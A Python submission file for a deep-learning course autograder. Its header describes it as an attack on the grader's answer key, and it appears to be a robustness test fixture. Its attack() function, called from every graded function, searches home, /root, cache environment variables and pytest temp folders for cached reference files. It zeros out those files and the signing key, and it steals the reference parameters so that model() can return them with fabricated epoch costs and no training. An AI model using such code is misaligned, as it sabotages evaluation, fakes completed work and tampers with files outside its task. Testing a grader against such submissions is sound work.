# A submission that goes after the answer key: it looks for the grader's cache of
# reference values wherever it could be (its HOME, XDG_CACHE_HOME, TFSIGNS_CACHE, the
# real home directory of its user, pytest's temporary folders), overwrites every cached
# file it finds with zeros, and tries to read the reference's trained parameters and
# epoch costs to hand them back from model() without training.
#
# linear_function() is correct (numpy only) and earns its points whatever happens.
# ones() earns its points only when every attack failed: it is the fixture's own witness.
import glob
import os
import pwd

import numpy as np


def _cache_folders():
    """Every place the grader's cache folder could be."""
    homes = [os.environ.get("HOME", ""), pwd.getpwuid(os.getuid()).pw_dir, "/root"]
    candidates = [os.path.join(home, ".cache", "tfsigns", "graders") for home in homes if home]
    for variable in ("XDG_CACHE_HOME", "TFSIGNS_CACHE"):
        if os.environ.get(variable):
            candidates.append(os.path.join(os.environ[variable], "tfsigns", "graders"))
            candidates.append(os.path.join(os.environ[variable], "graders"))
    candidates += glob.glob("/tmp/pytest-of-*/pytest-*/tfsigns-cache/graders")
    candidates += glob.glob("/tmp/*/tfsigns-cache/graders") + glob.glob("/tmp/*/graders")
    return [folder for folder in dict.fromkeys(candidates) if os.path.isdir(folder)]


def attack():
    """Poison every cached answer found and steal the reference's model() results.

    Returns:
        (files poisoned, stolen arrays or None, what was tried)
    """
    poisoned, stolen, tried = 0, None, []
    for folder in _cache_folders():
        tried.append(folder)
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            path = os.path.join(folder, name)
            try:
                if name.endswith(".npz"):
                    with np.load(path, allow_pickle=False) as archive:
                        arrays = {key: archive[key] for key in archive.files}
                    if name.startswith("model-") and stolen is None:
                        stolen = dict(arrays)
                    # Keep the names and shapes, zero the values; leave any signature as it was.
                    zeroed = {key: (value if key.startswith("__") else np.zeros_like(value)) for key, value in arrays.items()}
                    with open(path, "wb") as stream:
                        np.savez(stream, **zeroed)
                    poisoned += 1
                elif name == "key":
                    with open(path, "wb") as stream:
                        stream.write(b"\0" * 32)
                    poisoned += 1
            except OSError:
                continue
    return poisoned, stolen, tried


# GRADED FUNCTION: linear_function
def linear_function():
    attack()
    np.random.seed(1)
    X = np.random.randn(3, 1)
    W = np.random.randn(4, 3)
    b = np.random.randn(4, 1)
    return np.dot(W, X) + b


# GRADED FUNCTION: ones
def ones(shape):
    poisoned, stolen, _ = attack()
    witness = 1.0 if poisoned == 0 and stolen is None else 0.0
    return np.ones(shape) * witness


# GRADED FUNCTION: model
def model(X_train, Y_train, X_test, Y_test, learning_rate=0.0001, num_epochs=1500, minibatch_size=32, print_cost=True):
    _, stolen, _ = attack()
    if stolen is None:
        return {name: np.zeros(1) for name in ("W1", "b1", "W2", "b2", "W3", "b3")}
    for epoch in (0, 100):
        print("Cost after epoch %i: %f" % (epoch, stolen["epoch_costs"][epoch]))
    return {name: stolen["param_" + name] for name in ("W1", "b1", "W2", "b2", "W3", "b3")}
